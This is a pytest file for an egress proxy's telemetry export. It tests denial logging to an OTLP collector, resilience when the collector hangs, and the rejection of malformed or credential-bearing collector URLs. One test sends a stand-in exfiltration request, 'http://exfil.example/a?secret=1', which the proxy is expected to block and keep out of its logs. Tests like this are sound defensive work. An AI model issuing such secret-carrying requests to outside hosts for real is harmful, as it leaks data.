"""The export of a `serve`: a denied call arrives, and no collector costs traffic anything."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from cloned_proxy.store.files.errors import StoreError
from cloned_proxy.store.settings.config import load_config
from tests.cli.conftest import workspace
from tests.cli.program import Workspace, eventually, policy_text
from tests.store.audit.collector import Receiver, attributes

__all__ = ["workspace"]


def test_a_denied_call_of_a_real_serve_arrives_with_its_decisions_id(workspace: Workspace, receiver: Receiver) -> None:
    workspace.write_policy(policy_text())
    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
    serving = workspace.serve()
    answer = serving.get("http://exfil.example/a?secret=1")
    eventually(lambda: any(r.event_name == "cloned_proxy.decision" for r in receiver.records), what="the record")
    (record,) = [r for r in receiver.records if r.event_name == "cloned_proxy.decision"]
    found = attributes(record)
    assert found["cloned.id"] in answer.body
    assert record.trace_id.hex() == f"00000000{found['cloned.id']}"
    assert (found["server.address"], found["server.port"], found["url.path"]) == ("exfil.example", 80, "/a")
    assert (found["cloned.verdict"], found["cloned.reason"]) == ("deny", "host_not_allowed")
    assert (record.severity_text, record.body.string_value) == ("WARN", "decision deny host_not_allowed")
    assert abs(record.time_unix_nano / 1e9 - time.time()) < 60
    assert receiver.resource["service.name"] == "cloned-proxy"
    assert "secret" not in str(receiver.records)
    assert "cloned_proxy_otlp_exported_total" in serving.page("/metrics").body


def test_a_collector_that_hangs_costs_traffic_nothing(workspace: Workspace, receiver: Receiver) -> None:
    workspace.write_policy(policy_text())
    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
    serving = workspace.serve()
    receiver.hang.clear()
    serving.get("http://first.example/")
    eventually(lambda: receiver.asked, what="an export that hangs")
    for number in range(20):
        assert serving.get(f"http://host{number}.example/").status == 403
    assert serving.page("/readyz").status == 200
    receiver.hang.set()
    hosts = {f"host{number}.example" for number in range(20)}
    eventually(lambda: hosts <= {attributes(r).get("server.address") for r in receiver.records}, what="all of them")


@pytest.mark.parametrize(
    "endpoint",
    ["ftp://127.0.0.1", "http://user:secret@collector", "http://c/v1/logs", "collector",
     "http://collector:4318x", "http://[::1", "http://xn--", "http://collector:99999", "http://collector:0", "http://:4318"],
)  # fmt: skip
def test_an_endpoint_that_is_no_base_url_is_refused(tmp_path: Path, endpoint: str) -> None:
    config = tmp_path / "config.yaml"
    config.write_text(f"telemetry: {{otlp_endpoint: '{endpoint}'}}\n")
    with pytest.raises(StoreError) as refused:
        load_config(config)
    assert "config.yaml:1: telemetry.otlp_endpoint: this is not the base URL of a collector" in str(refused.value)
    assert "write one such as http://127.0.0.1:4318" in str(refused.value)
    assert "secret" not in str(refused.value)


def test_a_refused_endpoint_ends_serve_at_its_start(workspace: Workspace) -> None:
    workspace.write_policy(policy_text())
    (workspace.path / "config.yaml").write_text("telemetry: {otlp_endpoint: 'http://user:secret@collector'}\n")
    done = workspace.run("serve", "--listen", "127.0.0.1:0", "--metrics", "off", "--control", "off")
    assert done.returncode == 2
    assert "config.yaml:1: telemetry.otlp_endpoint: this is not the base URL of a collector" in done.stderr
    assert "secret" not in done.stderr
